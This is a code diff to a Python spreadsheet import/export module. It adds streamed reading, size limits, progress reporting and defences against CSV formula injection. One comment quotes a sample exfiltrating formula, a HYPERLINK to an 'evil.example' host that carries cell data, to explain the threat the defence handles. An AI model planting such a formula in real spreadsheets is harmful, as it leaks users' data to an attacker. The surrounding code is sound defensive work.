@@ -12,6 +12,7 @@ Export and import use this one format, so an exported file imports back unchange
 from __future__ import annotations
 
 import csv
+import itertools
 import io
 from dataclasses import dataclass
 from datetime import date, datetime
@@ -43,7 +44,7 @@ FIXED_NOTES: dict[str, str] = {
     "workflow": "Nama alur kerja, mis. kerja-sama atau pemanfaatan-bmd.",
     "workflow_version": "Kosongkan untuk versi terbaru.",
     "state": "Kode status dari daftar (mis. integrated). Kerja sama masuk dalam status ini.",
-    "state_since": "Tanggal status ini mulai berlaku (mis. 20/11/2023); tenggat dihitung dari tanggal ini.",
+    "state_since": "Tanggal (YYYY-MM-DD) status ini mulai berlaku; tenggat dihitung dari tanggal ini.",
     "title": "Judul naskah kerja sama (wajib).",
     "partner": "Nama mitra (wajib).",
     "lead_opd": "Kode OPD pengampu dari direktori (wajib), mis. DKP.",
@@ -107,7 +108,12 @@ class Sheet:
     path: str
     header: list[str]
     rows: list[tuple[int, list[Any]]]  # (row number as the user sees it, cell values)
+    # Told (rows done, rows in all) every PROGRESS_EVERY rows as they are checked (a bar on a TTY).
+    on_progress: Any = None
     header_row: int = 1  # the header's row number as the sheet shows it (title rows may come first)
+
+
+PROGRESS_EVERY = 1000
 
 
 # How far down a header is looked for, and how many known column names make a row the header.
@@ -128,6 +134,32 @@ def _header_index(rows: Sequence[Sequence[Any]], names: set[str] | None) -> int:
     return first_filled or 0
 
 
+def _split_header(path: Path, numbered: Iterator[tuple[int, Sequence[Any]]], names: set[str] | None,
+                  header_text, clean, max_rows: int | None) -> Sheet:
+    """The header found among the first rows of ``numbered`` ((row number, cells), streamed),
+    and the data rows after it; more than ``max_rows`` data rows is refused as soon as it is met."""
+    first: list[tuple[int, Sequence[Any]]] = []
+    for item in numbered:
+        first.append(item)
+        if len(first) == HEADER_SEARCH_ROWS:
+            break
+    if not first:
+        raise InvalidInput(f"'{path.name}' is empty: it has no header row.")
+    at = _header_index([cells for _, cells in first], names)
+    header_number, header_cells = first[at]
+    header = [header_text(c) for c in header_cells]
+    while header and not header[-1]:
+        header.pop()
+    rows: list[tuple[int, list[Any]]] = []
+    for number, cells in itertools.chain(first[at + 1:], numbered):
+        values = [clean(c) for c in cells]
+        if any(v is not None for v in values):
+            rows.append((number, values))
+            if max_rows is not None and len(rows) > max_rows:
+                raise _too_many(path, max_rows)
+    return Sheet(str(path), header, rows, header_row=header_number)
+
+
 def _clean_cell(value: Any) -> Any:
     if isinstance(value, str):
         value = value.strip()
@@ -140,45 +172,125 @@ def _clean_cell(value: Any) -> Any:
     return value
 
 
-def read(path: str | Path, header_names: set[str] | None = None) -> Sheet:
-    """Read a sheet; ``header_names`` (lower case) lets the header be found below title rows."""
+# ------------------------------------------------------------------------- formulas
+#
+# A cell that begins with one of these is taken by Excel/LibreOffice as a formula (or a DDE
+# call), so a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on opening
+# (OWASP "CSV injection"). tkksd never writes one: XLSX cells are typed as text with Excel's
+# quote prefix, CSV cells get the usual leading apostrophe, and import removes exactly that
+# apostrophe again, so the value round-trips unchanged.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _needs_quote(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS))
+
+
+def inert_csv(value: Any) -> Any:
+    """A CSV cell value that no spreadsheet evaluates (a leading apostrophe where needed)."""
+    if isinstance(value, str) and _needs_quote(value):
+        return "'" + value
+    return value
+
+
+def restore_csv(value: Any) -> Any:
+    """The value ``inert_csv`` protected, exactly as it was."""
+    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
+        return value[1:]
+    return value
+
+
+def mark_text_cells(ws, min_row: int = 1) -> None:
+    """Make every string cell of ``ws`` that looks like a formula a plain text cell (openpyxl
+    stores a string beginning with '=' as a formula otherwise)."""
+    for row in ws.iter_rows(min_row=min_row):
+        for cell in row:
+            value = cell.value
+            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+                cell.data_type = "s"
+                cell.quotePrefix = True
+
+
+def _too_many(path: Path, max_rows: int) -> InvalidInput:
+    return InvalidInput(f"'{path.name}' has more than {max_rows:,} rows, the most one import takes ([import] max_rows); "
+                        "split it into several files; nothing was imported.")
+
+
+def read(path: str | Path, header_names: set[str] | None = None, *, max_rows: int | None = None) -> Sheet:
+    """The sheet at ``path``; ``header_names`` (lower case) lets the header be found below title
+    rows; more than ``max_rows`` data rows is refused as soon as it is met."""
     path = Path(path)
     if not path.exists():
         raise InvalidInput(f"There is no file '{path}'.")
+    if path.is_dir():
+        raise InvalidInput(f"'{path}' is a folder, not a .csv or .xlsx file.")
     suffix = path.suffix.lower()
     if suffix == ".csv":
-        return _read_csv(path, header_names)
+        return _read_csv(path, header_names, max_rows)
     if suffix in (".xlsx", ".xlsm"):
-        return _read_xlsx(path, header_names)
+        return _read_xlsx(path, header_names, max_rows)
     raise InvalidInput(f"'{path.name}' is neither a .csv nor a .xlsx file.")
 
 
-def _read_csv(path: Path, header_names: set[str] | None = None) -> Sheet:
+# Excel's limit of characters in a cell; a longer cell cannot come from a spreadsheet and is
+# refused as soon as it is met, before the rest of the file is read.
+CELL_LIMIT = 32_767
+
+
+def _too_long(path: Path, number: int) -> InvalidInput:
+    return InvalidInput(f"'{path.name}' row {number}: a cell is longer than {CELL_LIMIT:,} characters "
+                        "(the most a spreadsheet cell holds); nothing was imported.")
+
+
+def _csv_lines(path: Path):
+    """The file's lines, read as they are needed (never the whole file at once)."""
     try:
-        text = path.read_text(encoding="utf-8-sig")
+        fh = open(path, encoding="utf-8-sig", newline="")
+    except OSError as exc:
+        raise InvalidInput(f"Cannot read '{path}': {exc.strerror or exc}.") from None
+    return fh
+
+
+def _read_csv(path: Path, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
+    fh = _csv_lines(path)
+    try:
+        return _parse_csv(path, fh, header_names, max_rows)
     except UnicodeDecodeError:
         raise InvalidInput(f"'{path.name}' is not UTF-8 text; save the CSV as UTF-8.") from None
-    lines = text.splitlines(keepends=True)
+    finally:
+        fh.close()
+
+
+def _parse_csv(path: Path, fh, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
     skipped = 0
+    head: list[str] = []
     # Leading lines that start with '#' are comments (the demo inventory says it is sample data there).
-    while skipped < len(lines) and lines[skipped].lstrip().startswith("#"):
-        skipped += 1
-    sample = "".join(lines[skipped: skipped + 5])
+    for line in fh:
+        if len(line) > 8 * CELL_LIMIT:
+            raise _too_long(path, skipped + 1)
+        if line.lstrip().startswith("#") and not head:
+            skipped += 1
+            continue
+        head.append(line)
+        if len(head) == 5:
+            break
+    sample = "".join(head)
     delimiter = ";" if sample.count(";") > sample.count(",") else ","  # Excel in an Indonesian locale writes ';'
-    all_rows = list(csv.reader(io.StringIO("".join(lines[skipped:])), delimiter=delimiter))
-    if not all_rows:
-        raise InvalidInput(f"'{path.name}' is empty: it has no header row.")
-    at = _header_index(all_rows, header_names)
-    header = [c.strip() for c in all_rows[at]]
-    rows: list[tuple[int, list[Any]]] = []
-    for i, cells in enumerate(all_rows[at + 1:], start=at + 1):
-        values = [_clean_cell(c) for c in cells]
-        if any(v is not None for v in values):
-            rows.append((skipped + i + 1, values))
-    return Sheet(str(path), header, rows, skipped + at + 1)
+    previous_limit = csv.field_size_limit(CELL_LIMIT)
+    reader = csv.reader(itertools.chain(head, fh), delimiter=delimiter)
+    numbered = ((skipped + reader.line_num, cells) for cells in reader)
+    try:
+        return _split_header(path, numbered, header_names, lambda c: c.strip(),
+                             lambda c: restore_csv(_clean_cell(c)), max_rows)
+    except csv.Error as exc:
+        if "field larger than field limit" in str(exc):
+            raise _too_long(path, skipped + reader.line_num) from None
+        raise InvalidInput(f"'{path.name}' row {skipped + reader.line_num}: not valid CSV ({exc}).") from None
+    finally:
+        csv.field_size_limit(previous_limit)
 
 
-def _read_xlsx(path: Path, header_names: set[str] | None = None) -> Sheet:
+def _read_xlsx(path: Path, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
     import openpyxl
 
     try:
@@ -187,24 +299,13 @@ def _read_xlsx(path: Path, header_names: set[str] | None = None) -> Sheet:
         raise InvalidInput(f"'{path.name}' cannot be read as an XLSX workbook ({type(exc).__name__}).") from None
     try:
         ws = wb[SHEET_NAME] if SHEET_NAME in wb.sheetnames else wb.worksheets[0]
-        all_rows = list(ws.iter_rows(values_only=True))
+        numbered = enumerate(ws.iter_rows(values_only=True), start=1)
+        # A merged header cell reads as its text in the first cell and empty cells after it: the
+        # empty ones are columns without a name, which the import ignores.
+        return _split_header(path, numbered, header_names, lambda c: "" if c is None else " ".join(str(c).split()),
+                             _clean_cell, max_rows)
     finally:
         wb.close()
-    if not all_rows:
-        raise InvalidInput(f"'{path.name}' is empty: it has no header row.")
-    at = _header_index(all_rows, header_names)
-    # A merged header cell reads as its text in the first cell and empty cells after it: the
-    # empty ones are columns without a name, which the import ignores.
-    header = ["" if c is None else " ".join(str(c).split()) for c in all_rows[at]]
-    rows: list[tuple[int, list[Any]]] = []
-    clean = _clean_cell
-    for number, cells in enumerate(all_rows[at + 1:], start=at + 2):
-        values = [clean(c) for c in cells]
-        if any(v is not None for v in values):
-            rows.append((number, values))
-    while header and not header[-1]:
-        header.pop()
-    return Sheet(str(path), header, rows, at + 1)
 
 
 # ------------------------------------------------------------------------- writing
@@ -228,7 +329,7 @@ def write_csv(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str,
         w = csv.writer(fh)
         w.writerow([c.key for c in cols])
         for r in rows:
-            w.writerow([_csv_value(r.get(c.key)) for c in cols])
+            w.writerow([inert_csv(_csv_value(r.get(c.key))) for c in cols])
 
 
 def _csv_value(value: Any) -> Any:
@@ -269,6 +370,7 @@ def write_xlsx(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str
     ws.freeze_panes = "B2"
     for r in rows:
         ws.append([cell_text(r.get(c.key)) for c in cols])
+    mark_text_cells(ws, min_row=2)
     date_cols = [i for i, c in enumerate(cols, start=1) if c.type == "date" or c.key == "state_since"]
     last = max(len(rows) + 1, 2)
     for i in date_cols:
@@ -330,6 +432,9 @@ GUIDE_LINES = (
 def iter_dicts(sheet: Sheet, keys: Sequence[str | None]) -> Iterator[tuple[int, dict[str, Any]]]:
     """Rows as {key: value} for the header positions mapped to ``keys`` (None: ignored)."""
     pairs = [(i, k) for i, k in enumerate(keys) if k is not None]
-    for number, cells in sheet.rows:
+    total, report = len(sheet.rows), sheet.on_progress
+    for done, (number, cells) in enumerate(sheet.rows, start=1):
         n = len(cells)
         yield number, {k: (cells[i] if i < n else None) for i, k in pairs}
+        if report is not None and (done % PROGRESS_EVERY == 0 or done == total):
+            report(done, total)
